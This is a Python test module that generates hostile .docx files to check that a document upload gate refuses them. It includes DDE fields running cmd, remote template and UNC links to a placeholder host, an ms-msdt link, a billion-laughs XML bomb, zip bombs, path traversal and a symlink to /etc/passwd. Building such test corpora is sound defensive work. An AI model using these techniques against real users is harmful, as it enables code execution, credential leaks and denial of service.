"""Word files that an attacker might send, each made from the honest draft: {name: bytes}, and what refuses it.

`python -m tests.letters.hostile FOLDER` writes them all, to be put before any gate.
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from pathlib import Path

from tests.letters.sample import changed, draft, pack, parts

DATA = Path(__file__).resolve().parents[1] / "data" / "surat"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
V = "urn:schemas-microsoft-com:vml"
BODY, TYPES, RELS, ROOT = (
    "word/document.xml",
    "[Content_Types].xml",
    "word/_rels/document.xml.rels",
    "_rels/.rels",
)
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
NOISE = os.urandom  # incompressible, so that the ratio alone does not give a bomb away


@cache
def honest() -> bytes:
    return draft()


def body(xml: str) -> bytes:
    return changed(honest(), BODY, "<w:sectPr", xml + "<w:sectPr")


def whole_body(xml: str) -> bytes:
    return with_parts(
        {BODY: f'<w:document xmlns:w="{W}"><w:body>{xml}</w:body></w:document>'.encode()}
    )


def with_parts(more: dict[str, bytes]) -> bytes:
    return pack({**parts(honest()), **more})


def related(
    kind: str, target: str, mode: str = "", more: dict[str, bytes] | None = None, where: str = RELS
) -> bytes:
    mode = f' TargetMode="{mode}"' if mode else ""
    node = f'<Relationship Id="rIdX" Type="{R}/{kind}" Target="{target}"{mode}/></Relationships>'
    content = parts(changed(honest(), where, "</Relationships>", node))
    return pack({**content, **(more or {})})


def field(code: str) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in code.split("|")
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _macros() -> Iterator[tuple[str, bytes, str]]:
    yield "makro.docx", with_parts({"word/vbaProject.bin": OLE + NOISE(400)}), "makro"
    macro = ("wordprocessingml.document.main", "ms-word.document.macroEnabled.main")
    as_docm = changed(honest(), TYPES, f"openxmlformats-officedocument.{macro[0]}", macro[1])
    yield "docm-berganti-nama.docx", as_docm, "makro"
    hidden = related(
        "vbaProject", "media/gambar.png", more={"word/media/gambar.png": OLE + NOISE(400)}
    )
    yield "makro-sebagai-gambar.docx", hidden, "makro"
    kind = "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"
    ui = changed(
        honest(),
        ROOT,
        "</Relationships>",
        f'<Relationship Id="rIdX" Type="{kind}" Target="ui.xml"/></Relationships>',
    )
    yield "pita-sendiri.docx", pack({**parts(ui), "ui.xml": b"<customUI/>"}), "makro"
    yield "vbadata.docx", with_parts({"word/vbaData.xml": b"<a/>"}), "makro"


def _embedded() -> Iterator[tuple[str, bytes, str]]:
    ole = {"word/embeddings/oleObject1.bin": OLE + NOISE(400)}
    yield "ole.docx", related("oleObject", "embeddings/oleObject1.bin", more=ole), "objek tertanam"
    yield "ole-unsur.docx", body("<w:p><w:r><w:object/></w:r></w:p>"), "objek tertanam"
    office = '<w:p><w:r><w:pict><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:pict></w:r></w:p>'
    yield "ole-gambar.docx", body(office), "objek tertanam"
    yield "ole-sebagai-png.docx", with_parts({"word/media/a.png": OLE + NOISE(400)}), "bukan gambar"
    yield (
        "exe-sebagai-png.docx",
        with_parts({"word/media/a.png": b"MZ" + NOISE(400)}),
        "bukan gambar",
    )
    package = {"word/embeddings/buku.xlsx": honest()}
    yield (
        "buku-kerja.docx",
        related("package", "embeddings/buku.xlsx", more=package),
        "objek tertanam",
    )
    yield "paket-exe.docx", with_parts({"word/embeddings/a.exe": b"MZ"}), "objek tertanam"
    active = {"word/activeX/activeX1.xml": b"<a/>", "word/activeX/activeX1.bin": OLE}
    yield "activex.docx", with_parts(active), "ActiveX"
    yield "activex-unsur.docx", body("<w:p><w:r><w:control/></w:r></w:p>"), "ActiveX"
    html = {"word/sisip.html": b"<html><script>1</script></html>"}
    yield "altchunk.docx", related("aFChunk", "sisip.html", more=html), "sisipan"
    yield "altchunk-unsur.docx", body(f'<w:altChunk xmlns:r="{R}" r:id="rId1"/>'), "sisipan"
    yield "subdokumen.docx", related("subDocument", "a.docx", "External"), "sisipan"
    script = b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
    yield "svg-program.docx", with_parts({"word/media/a.svg": script}), "program"


def _outside() -> Iterator[tuple[str, bytes, str]]:
    yield "gambar-luar.docx", related("image", "http://contoh.invalid/a.png", "External"), "luar"
    yield "gambar-luar-diam.docx", related("image", "http://contoh.invalid/a.png"), "luar"
    yield (
        "gambar-luar-kecil.docx",
        related("image", "http://contoh.invalid/a.png", "external"),
        "luar",
    )
    yield "gambar-unc.docx", related("image", "\\\\contoh.invalid\\a.png", "External"), "luar"
    yield "gambar-tanpa-skema.docx", related("image", "//contoh.invalid/a.png"), "luar"
    yield (
        "templat-luar.docx",
        related("attachedTemplate", "http://contoh.invalid/a.dotm", "External"),
        "templat",
    )
    for number, server in enumerate(
        (
            "\\\\contoh.invalid\\a.dotm",
            "file://contoh.invalid/a.dotm",
            "file:////contoh.invalid/a.dotm",
        )
    ):
        unc = related("attachedTemplate", server, "External")
        yield f"templat-peladen-{number}.docx", unc, "templat"
    yield "bingkai.docx", related("frame", "http://contoh.invalid/", "External"), "luar"
    yield "tautan-unc.docx", related("hyperlink", "\\\\contoh.invalid\\a", "External"), "tautan"
    yield (
        "tautan-peladen.docx",
        related("hyperlink", "file://contoh.invalid/a", "External"),
        "tautan",
    )
    yield "tautan-skrip.docx", related("hyperlink", "javascript:alert(1)", "External"), "tautan"
    yield (
        "tautan-diagnostik.docx",
        related("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"),
        "tautan",
    )
    source = f'<w:p><w:r><w:pict><v:imagedata xmlns:v="{V}" src="http://contoh.invalid/a"/></w:pict></w:r></w:p>'
    yield "vml-luar.docx", body(source), "luar"
    linked = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://contoh.invalid/a.png"/></svg>'
    )
    yield "svg-luar.docx", with_parts({"word/media/a.svg": linked}), "luar"
    yield (
        "tautan-unc-tiga.docx",
        related("hyperlink", "file:///\\\\contoh.invalid\\a", "External"),
        "tautan",
    )
    yield (
        "tautan-unc-empat.docx",
        related("hyperlink", "file:////contoh.invalid/a", "External"),
        "tautan",
    )
    yield (
        "tautan-unc-kode.docx",
        related("hyperlink", "file:///%5C%5Ccontoh.invalid%5Ca", "External"),
        "tautan",
    )
    base = "<HyperlinkBase>\\\\contoh.invalid\\a</HyperlinkBase></Properties>"
    yield (
        "tautan-pangkal.docx",
        changed(honest(), "docProps/app.xml", "</Properties>", base),
        "tautan",
    )
    yield "keluar-berkas.docx", related("image", "../../../../etc/passwd"), "di luar berkas"


def _fields() -> Iterator[tuple[str, bytes, str]]:
    yield "dde.docx", body(field("DDE c:\\\\windows\\\\cmd &quot;/k calc&quot;")), "DDE"
    yield "ddeauto-terpotong.docx", body(field("DD|EAU|TO c:\\\\cmd")), "DDEAUTO"
    yield "dde-kecil.docx", body(field("  ddeauto c:\\\\cmd")), "ddeauto"
    yield (
        "dde-sederhana.docx",
        body('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd"/></w:p>'),
        "DDEAUTO",
    )
    foot = next(name for name in parts(honest()) if name.startswith("word/footer"))
    yield "dde-kaki.docx", changed(honest(), foot, "</w:ftr>", field("DDE cmd") + "</w:ftr>"), "DDE"
    yield (
        "dde-dihapus.docx",
        body("<w:p><w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r></w:p>"),
        "DDE",
    )
    quote = field("QUOTE 68 68 69").removeprefix("<w:p>").removesuffix("</w:p>")
    nested = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{quote}<w:r><w:instrText>c:\\cmd</w:instrText></w:r>'
    yield (
        "dde-tersembunyi.docx",
        body(nested + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
        "otomatis",
    )
    piece = field("PAGE").removeprefix("<w:p>").removesuffix("</w:p>")
    split = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCL</w:instrText></w:r>{piece}'
    rest = '<w:r><w:instrText>UDETEXT a</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    yield "bidang-terbelah.docx", body(split + rest), "otomatis"
    switched = 'HYPERLINK \\t "_blank" "\\\\contoh.invalid\\a"'.replace('"', "&quot;")
    yield "tautan-bidang-unc.docx", body(field(switched)), "tautan"
    many = "".join(f'<w:fldSimple w:instr="PAGE \\* {n}"/>' for n in range(60_000))
    yield "bidang-60000.docx", whole_body(many), "bidang otomatis"
    yield (
        "includepicture.docx",
        body(field("INCLUDEPICTURE &quot;http://contoh.invalid/a&quot;")),
        "INCLUDEPICTURE",
    )
    yield (
        "includetext.docx",
        body(field("INCLUDETEXT &quot;c:\\\\rahasia.txt&quot;")),
        "INCLUDETEXT",
    )
    yield "link.docx", body(field("LINK Excel.Sheet.8 c:\\\\a.xls")), "LINK"
    yield "database.docx", body(field("DATABASE \\d c:\\\\a.mdb")), "DATABASE"
    source = "<w:mailMerge><w:connectString w:val='Provider=x'/></w:mailMerge></w:settings>"
    yield (
        "gabungan-surat.docx",
        changed(honest(), "word/settings.xml", "</w:settings>", source),
        "sumber data",
    )


def _markup() -> Iterator[tuple[str, bytes, str]]:
    entity = '<!DOCTYPE a [<!ENTITY b "c">]><w:document'
    yield "dtd.docx", changed(honest(), BODY, "<w:document", entity), "DTD"
    outside = '<!DOCTYPE a SYSTEM "http://contoh.invalid/a.dtd"><a/>'
    yield "dtd-luar.docx", with_parts({"customXml/item1.xml": outside.encode()}), "DTD"
    yield "dtd-utf16.docx", with_parts({"customXml/item1.xml": outside.encode("utf-16")}), "DTD"
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]><a>&a9;</a>'
    yield "milyaran-tawa.docx", with_parts({"docProps/app.xml": bomb.encode()}), "DTD"
    coded = b'<?xml version="1.0" encoding="cp037"?><a/>'
    yield "pengodean.docx", with_parts({"customXml/item1.xml": coded}), "pengodean"
    yield "dalam.docx", body("<w:p>" * 5000 + "</w:p>" * 5000), "terlalu dalam"
    yield "alinea-300000.docx", whole_body("<w:p/>" * 300_000), "terlalu banyak"
    yield (
        "alinea-300000-berisi.docx",
        whole_body("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 300_000),
        "tidak diterima",
    )
    yield (
        "atribut.docx",
        whole_body("<w:p " + " ".join(f'a{n}=""' for n in range(600_000)) + "/>"),
        "tidak diterima",
    )
    yield (
        "atribut-panjang.docx",
        whole_body(f'<w:p a="{NOISE(3_000_000).hex()}"/>'),
        "terlalu panjang",
    )
    yield "komentar-panjang.docx", whole_body(f"<!--{NOISE(3_000_000).hex()}-->"), "terlalu panjang"
    name = "a" * 60_000
    yield (
        "ruang-nama.docx",
        whole_body(f'<x xmlns="{name}">' + "<a/>" * 80_000 + "</x>"),
        "tidak wajar",
    )
    long = "urn:" + "x" * 140
    each = " ".join(f'p:a{n}=""' for n in range(80_000))
    yield (
        "atribut-bernama.docx",
        with_parts({"word/a.xml": f'<a xmlns:p="{long}" {each}/>'.encode()}),
        "tidak wajar",
    )
    some = [" ".join(f'p:a{n}_{m}=""' for m in range(400)) for n in range(400)]
    rows = "".join(f"<b {attributes}/>" for attributes in some)
    yield (
        "atribut-berbagai.docx",
        with_parts({"word/a.xml": f'<a xmlns:p="{long}">{rows}</a>'.encode()}),
        "tidak wajar",
    )
    names = "".join(f"<b{n}/>" for n in range(130_000))
    yield (
        "unsur-berbagai.docx",
        with_parts({"word/a.xml": f'<a xmlns="{long}">{names}</a>'.encode()}),
        "tidak wajar",
    )
    spaces = "".join(f'<b xmlns:p{n}="u{n}"/>' for n in range(120_000))
    yield (
        "ruang-nama-banyak.docx",
        with_parts({"word/a.xml": f"<a>{spaces}</a>".encode()}),
        "tidak wajar",
    )
    relation = "".join(
        f'<Relationship Id="r{n}" Type="{R}/image" Target="media/a.png"/>' for n in range(59_000)
    )
    listed = f'<Relationships xmlns="{RELATIONS}">{relation}</Relationships>'.encode()
    yield "hubungan-59000.docx", with_parts({"word/_rels/a.xml.rels": listed}), "terlalu banyak"
    kinds = "".join(
        f'<Override PartName="/word/x{n}.xml" ContentType="a/b"/>' for n in range(85_000)
    )
    yield (
        "jenis-85000.docx",
        changed(honest(), TYPES, "</Types>", kinds + "</Types>"),
        "terlalu banyak",
    )
    yield "komentar-banyak.docx", whole_body("<!--x-->" * 500_000), "terlalu banyak"
    yield "tanpa-akhir.docx", body("<w:p>"), "rusak"
    yield (
        "akar-lain.docx",
        with_parts({BODY: b"<html><body>surat</body></html>"}),
        "bukan dokumen Word",
    )


def _disguises() -> Iterator[tuple[str, bytes, str]]:
    """What is known is written so that a search does not find it."""
    quoted = "&quot;INCLUDEPICTURE&quot; &quot;http://contoh.invalid/a.png&quot;"
    yield "bidang-berkutip.docx", body(field(quoted)), "bidang otomatis"
    late = "\\* MERGEFORMAT INCLUDEPICTURE &quot;http://contoh.invalid/a.png&quot;"
    yield "bidang-di-belakang.docx", body(field(late)), "bidang otomatis"
    bare = b'<svg><image href="http://contoh.invalid/a.png"/></svg>'
    svg, link = '<svg xmlns="http://www.w3.org/2000/svg">', "http://contoh.invalid/a.png"
    for number, moved in enumerate(
        [
            f'<image><set attributeName="href" to="{link}"/></image>',
            f'<image><animate attributeName="x:href" values="#a;{link}"/></image>',
            f'<rect style="fill:image-set(&apos;{link}&apos; 1x)"/>',
        ]
    ):
        part = f"{svg}{moved}</svg>".encode()
        yield f"svg-bergerak-{number}.docx", with_parts({"word/media/a.svg": part}), "luar"
    yield "svg-tanpa-nama.docx", with_parts({"word/media/a.svg": bare}), "luar"
    start, end = b'<svg xmlns="http://www.w3.org/2000/svg"><style>', b"</style></svg>"
    for number, css in enumerate(
        [
            rb"a{fill:u\72l(http://contoh.invalid/a)}",
            rb"@\69mport 'http://contoh.invalid/a'",
            b"a{fill:ur/**/l(http://contoh.invalid/a)}",
            b"a{fill:&#117;rl(http://contoh.invalid/a)}",
        ]
    ):
        yield f"svg-css-{number}.docx", with_parts({"word/media/a.svg": start + css + end}), "luar"
    video = "http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"
    film = f'<w:p><w:r><wp15:webVideoPr xmlns:wp15="{video}" embeddedHtml="a"/></w:r></w:p>'
    yield "video.docx", body(film), "video"
    yield (
        "gambar-900-megapiksel.docx",
        (DATA / "png_900_megapixel_shown.docx").read_bytes(),
        "terlalu besar",
    )
    wide = b"\xff\xd8\xff\xe1" + struct.pack(">H", 60_000) + NOISE(59_998)
    wide += b"\xff\xc2\x00\x11\x08" + struct.pack(">HH", 60_000, 60_000) + bytes(12)
    yield "jpeg-lebar.docx", with_parts({"word/media/a.jpg": wide}), "terlalu besar"


def _archives() -> Iterator[tuple[str, bytes, str]]:
    yield "bom.docx", with_parts({"word/media/a.png": bytes(100 * 2**20)}), "mengembang"
    yield (
        "bom-xml.docx",
        with_parts({"word/a.xml": b"<a>" + b" " * 50_000_000 + b"</a>"}),
        "mengembang",
    )
    yield "bom-berbohong.docx", _understated(), "tidak sebesar"
    yield "bom-tindih.docx", _overlapping(), "tidak diterima"
    yield (
        "bagian-600.docx",
        with_parts({f"word/{n}.xml": b"<a/>" for n in range(600)}),
        "terlalu banyak",
    )
    yield "bagian-100000.docx", _many_entries(), "terlalu banyak"
    content = parts(honest())
    yield "kembar.docx", pack(content, ((BODY, content[BODY]),)), "nama yang sama"
    yield "kembar-besar.docx", with_parts({"word/DOCUMENT.xml": b"<a/>"}), "nama yang sama"
    yield "kembar-titik.docx", with_parts({"word/./document.xml": b"<a/>"}), "nama yang sama"
    yield "memanjat.docx", with_parts({"../../etc/cron.xml": b"<a/>"}), "tidak wajar"
    yield "memanjat-kode.docx", with_parts({"word/%2e%2e/%2e%2e/a.xml": b"<a/>"}), "tidak wajar"
    yield "memanjat-balik.docx", with_parts({"..\\..\\a.xml": b"<a/>"}), "tidak wajar"
    yield "mutlak.docx", with_parts({"/etc/a.xml": b"<a/>"}), "tidak wajar"
    yield "di-depan.docx", b"PK\x03\x04" + NOISE(300) + honest(), "tidak diterima"
    yield "di-belakang.docx", honest() + NOISE(300), "ditempelkan"
    yield "di-antara.docx", _hidden_between(), "ditempelkan"
    yield "sebelum-daftar.docx", _before_directory(), "ditempelkan"
    yield "taut-lambang.docx", _symlink(), "jenis yang tidak wajar"
    yield "folder-berisi.docx", with_parts({"word/media/": b"isi"}), "jenis yang tidak wajar"
    yield "nama-terbalik.docx", with_parts({"word/\u202egnp.xml": b"<a/>"}), "tidak wajar"
    yield "blok-kosong.docx", _empty_blocks(), "terlalu rumit"
    yield "exe-berawalan-kosong.docx", _late_start(), "bukan gambar"
    yield "lembar-100.docx", _sheets(100), "terlalu banyak grafik"
    yield "komentar-arsip.docx", honest()[:-2] + struct.pack("<H", 3) + b"abc", "ditempelkan"
    yield "dua-nama.docx", _two_names(), "daftar isinya"
    yield "sandi.docx", _encrypted(), "kata sandi"
    yield (
        "sandi-office.docx",
        OLE + bytes(2000) + "EncryptedPackage".encode("utf-16-le"),
        "kata sandi",
    )
    yield "cara-lain.docx", _packed_by(zipfile.ZIP_LZMA), "dimampatkan"
    yield "terpotong.docx", honest()[:-400], "rusak"
    yield "tanpa-akhir.docx", _without_end(), "rusak"
    yield "berkas-tak-dikenal.docx", with_parts({"word/a.hta": b"<script/>"}), "tidak lazim"
    typed = '<Override PartName="/word/media/a.png" ContentType="application/xml"/></Types>'
    disguised = parts(changed(honest(), TYPES, "</Types>", typed))
    yield "xml-sebagai-png.docx", pack({**disguised, "word/media/a.png": b"\x89PNG"}), "tidak cocok"


def _other_kinds() -> Iterator[tuple[str, bytes, str]]:
    yield "html.docx", b"<html><body>surat</body></html>", "HTML"
    yield "rtf.docx", b"{\\rtf1\\ansi surat}", "RTF"
    yield "doc.docx", OLE + bytes(2000), "Word lama"
    yield "pdf.docx", b"%PDF-1.7", "PDF"
    yield "mht.docx", b"MIME-Version: 1.0\nContent-Type: multipart/related\n", "bukan dokumen Word"
    odt = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}
    yield "odt.docx", pack(odt), "OpenDocument"
    sheet = changed(honest(), TYPES, "wordprocessingml.document.main", "spreadsheetml.sheet.main")
    yield "xlsx.docx", sheet, "jenis Office yang lain"
    yield "zip.docx", pack({"surat.txt": b"surat"}), "bukan dokumen Word"
    yield "kosong.docx", b"", "kosong"
    yield "besar.docx", honest() + bytes(11 * 2**20), "terlalu besar (10,1 MB); paling besar 10 MB"


def _understated() -> bytes:
    """A part that is larger than its headers say, with the checksum of what they say."""
    large = b"<a>" + b" " * 50_000_000 + b"</a>"
    data = with_parts({"word/lain.xml": large})
    for old, new in ((len(large), 100), (zlib.crc32(large), zlib.crc32(large[:100]))):
        data = data.replace(struct.pack("<I", old), struct.pack("<I", new))
    return data


def _overlapping() -> bytes:
    """The directory names one stored part a second time, under another name."""
    data = bytearray(honest())
    end = data.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack("<HII", data[end + 10 : end + 20])
    first = data[start:]
    name, extra, comment = struct.unpack("<HHH", first[28:34])
    record = first[: 46 + name + extra + comment]
    twin = record[:46] + b"z" * name + record[46 + name :]
    data[end:end] = twin
    end += len(twin)
    data[end + 8 : end + 20] = struct.pack("<HHII", count + 1, count + 1, size + len(twin), start)
    return bytes(data)


def _many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(65_000):
            archive.writestr(f"word/{number}.xml", b"")
    return out.getvalue()


def _hidden_between() -> bytes:
    """A second archive's part between two parts of this one, in no directory."""
    data = honest()
    first = data.find(b"PK\x03\x04", 4)
    hidden = b"PK\x03\x04" + NOISE(500)
    moved = bytearray(data[:first] + hidden + data[first:])
    end = moved.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", moved[end + 16 : end + 20])[0] + len(hidden)
    moved[end + 16 : end + 20] = struct.pack("<I", start)
    at = start
    while moved[at : at + 4] == b"PK\x01\x02":
        offset = struct.unpack("<I", moved[at + 42 : at + 46])[0]
        moved[at + 42 : at + 46] = struct.pack("<I", offset + (len(hidden) if offset else 0))
        at += 46 + sum(struct.unpack("<HHH", moved[at + 28 : at + 34]))
    return bytes(moved)


def _before_directory() -> bytes:
    """Bytes between the last part and the directory, in no part."""
    data = bytearray(honest())
    end = data.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", data[end + 16 : end + 20])[0]
    data[end + 16 : end + 20] = struct.pack("<I", start + 500)
    return bytes(data[:start] + NOISE(500) + data[start:])


def _symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, blob in parts(honest()).items():
            archive.writestr(name, blob)
        link = zipfile.ZipInfo("word/media/a.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, b"/etc/passwd")
    return out.getvalue()


def _sheets(count: int) -> bytes:
    """Charts, each with a workbook that unpacks to 4 MB."""
    sheet = pack(
        {TYPES: b"<Types/>", "xl/workbook.xml": b"<workbook/>", "xl/media/a.png": bytes(3_900_000)}
    )
    more: dict[str, bytes] = {}
    for n in range(count):
        node = f'<Relationship Id="rId1" Type="{R}/package" Target="../embeddings/buku{n}.xlsx"/>'
        more[f"word/charts/_rels/chart{n}.xml.rels"] = (
            f'<Relationships xmlns="{RELATIONS}">{node}</Relationships>'.encode()
        )
        more[f"word/embeddings/buku{n}.xlsx"] = sheet
    return with_parts(more)


def _empty_blocks() -> bytes:
    """9 MB of deflate blocks with a table each and nothing in them: 800,000 tables for a part without bytes."""
    bits = 0
    length = 0

    def put(value: int, count: int) -> None:
        nonlocal bits, length
        bits |= value << length
        length += count

    for last in [0] * 8 + [1]:
        put(last, 1)
        put(2, 2)  # a table of its own
        put(0, 10)  # 257 lengths of letters, one of distances
        put(14, 4)  # all 18 lengths of lengths: 1 for the repeat of zero (18) and for 1
        for symbol in (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1):
            put(symbol in (18, 1), 3)
        for repeat in (138, 118):  # 256 letters do not occur
            put(1, 1)
            put(repeat - 11, 7)
        put(0, 3)  # the end of block has a code, one distance has; and here is the end
    whole = bits.to_bytes(-(-length // 8), "little")
    unit, end = whole[:90], whole[90:]  # eight blocks end with a byte
    return _as_deflated("word/media/zz.png", unit * 100_000 + end, b"")


def _as_deflated(name: str, packed: bytes, content: bytes) -> bytes:
    """The honest letter with one more part, whose deflated bytes are given."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for known, blob in parts(honest()).items():
            archive.writestr(known, blob)
        archive.writestr(zipfile.ZipInfo(name), packed)
    data = bytearray(out.getvalue())
    for magic, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = data.rfind(magic)
        struct.pack_into("<H", data, start + at, zipfile.ZIP_DEFLATED)
        struct.pack_into(
            "<III", data, start + at + 6, zlib.crc32(content), len(packed), len(content)
        )
    return bytes(data)


def _late_start() -> bytes:
    """A program as a picture, behind 100 KB of deflate blocks that hold nothing."""
    program = b"MZ" + NOISE(400)
    engine = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = b"\x00\x00\x00\xff\xff" * 20_000 + engine.compress(program) + engine.flush()
    return _as_deflated("word/media/zz.png", packed, program)


def _without_end() -> bytes:
    """A part whose deflated bytes do not say that they end: programs differ in what they read of it."""
    engine = zlib.compressobj(6, zlib.DEFLATED, -15)
    content = b"\x89PNG" + NOISE(400)
    packed = engine.compress(content) + engine.flush(zlib.Z_SYNC_FLUSH)
    return _as_deflated("word/media/zz.png", packed, content)


def _two_names() -> bytes:
    """The local header calls a part otherwise than the directory does."""
    data = with_parts({"word/aman.xml": b"<a/>"})
    return data.replace(b"word/aman.xml", b"word/jahat.xm", 1)


def _encrypted() -> bytes:
    data = bytearray(honest())
    data[6] |= 1
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def _packed_by(method: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, blob in parts(honest()).items():
            archive.writestr(name, blob)
    return out.getvalue()


def files() -> Iterator[tuple[str, bytes, str]]:
    """(name, bytes, a piece of the sentence that refuses it)."""
    for family in (
        _macros,
        _embedded,
        _disguises,
        _outside,
        _fields,
        _markup,
        _archives,
        _other_kinds,
    ):
        yield from family()


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, data, _told in files():
        (folder / name).write_bytes(data)
